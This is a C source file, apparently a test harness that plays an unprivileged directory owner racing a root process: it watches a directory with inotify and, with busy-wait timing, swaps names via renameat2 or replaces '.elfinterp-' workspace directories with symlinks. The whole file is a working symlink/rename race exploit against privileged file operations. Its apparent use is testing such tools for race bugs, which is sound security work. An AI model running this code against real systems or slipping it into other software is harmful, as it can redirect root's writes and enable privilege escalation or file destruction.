/*
 * Plays the owner of the directory that root works in. Run it as root with the owner's user number; it acts as that
 * user.
 *
 *   edit-swapper UID
 *
 * Reads a line for each round and prints `armed`:
 *
 *   workspace WATCHED - LINK TRIGGER MICROSECONDS TIMES
 *       rename every workspace that appears in a directory away, and put a link in its place
 *   exchange WATCHED NAME LINK TRIGGER MICROSECONDS TIMES
 *       exchange two names TIMES times, 0 for as often as possible
 *
 * TRIGGER is `event` (something in WATCHED was opened, read or made) or `timer` (now); then MICROSECONDS pass. An empty
 * line ends the round; it prints how many names were swapped.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static char what[16], watched[512], name[512], target[512], trigger[16];
static long delay, times;
static unsigned long count, rounds;

/* Busy-wait, because sleep is too coarse for the windows that matter. */
static void pass(long microseconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do clock_gettime(CLOCK_MONOTONIC, &now);
    while ((now.tv_sec - start.tv_sec) * 1000000 + (now.tv_nsec - start.tv_nsec) / 1000 < microseconds);
}

static int is_workspace(const struct dirent *entry) {
    return strncmp(entry->d_name, ".elfinterp-", 11) == 0 && entry->d_type == DT_DIR;
}

static void take_workspaces(void) {
    DIR *directory = opendir(watched);
    struct dirent *entry;
    while (directory != NULL && (entry = readdir(directory)) != NULL) {
        char path[1024], aside[1024];
        if (!is_workspace(entry)) continue;
        snprintf(path, sizeof path, "%s/%s", watched, entry->d_name);
        snprintf(aside, sizeof aside, "%s/taken-%lu-%lu", watched, rounds, count);
        if (rename(path, aside) == 0 && symlink(target, path) == 0) count++;
    }
    if (directory != NULL) closedir(directory);
}

static int is_over(void) {
    struct pollfd input = {0, POLLIN, 0};
    return poll(&input, 1, 0) > 0;
}

static void attack(void) {
    long done;
    if (strcmp(what, "workspace") == 0) {
        take_workspaces();
        return;
    }
    for (done = 0; times == 0 ? !is_over() : done < times; done++) {
        if (renameat2(AT_FDCWD, name, AT_FDCWD, target, RENAME_EXCHANGE) == 0) count++;
        if (times != 0) pass(delay / 2);
    }
}

/* Wait for the trigger. Returns 0 if the round ends first. */
static int await(int events) {
    struct pollfd both[2] = {{0, POLLIN, 0}, {events, POLLIN, 0}};
    for (;;) {
        char buffer[8192];
        if (poll(both, 2, -1) < 0 || both[0].revents != 0) return 0;
        if (read(events, buffer, sizeof buffer) > 0) return 1;
    }
}

static void play(void) {
    int isEvent = strcmp(trigger, "event") == 0, isWorkspace = strcmp(what, "workspace") == 0;
    int events = inotify_init1(IN_NONBLOCK);
    inotify_add_watch(events, watched, isWorkspace ? IN_CREATE : IN_OPEN | IN_ACCESS | IN_CREATE);
    count = 0;
    rounds++;
    puts("armed");
    fflush(stdout);
    if (isEvent) {
        while (await(events)) {
            pass(delay);
            attack();
            if (!isWorkspace) break;
        }
    } else {
        pass(delay);
        do attack();
        while (isWorkspace && !is_over());
    }
    close(events);
}

int main(int argc, char **argv) {
    char line[2048];
    uid_t uid = argc == 2 ? (uid_t)atoi(argv[1]) : 0;
    if (uid == 0 || setgroups(0, NULL) != 0 || setgid(uid) != 0 || setuid(uid) != 0) return 2;
    setvbuf(stdin, NULL, _IONBF, 0);
    while (fgets(line, sizeof line, stdin) != NULL) {
        if (sscanf(line, "%15s %511s %511s %511s %15s %ld %ld", what, watched, name, target, trigger, &delay, &times) != 7)
            return 2;
        play();
        if (fgets(line, sizeof line, stdin) == NULL) break;
        printf("%lu\n", count);
        fflush(stdout);
    }
    return 0;
}
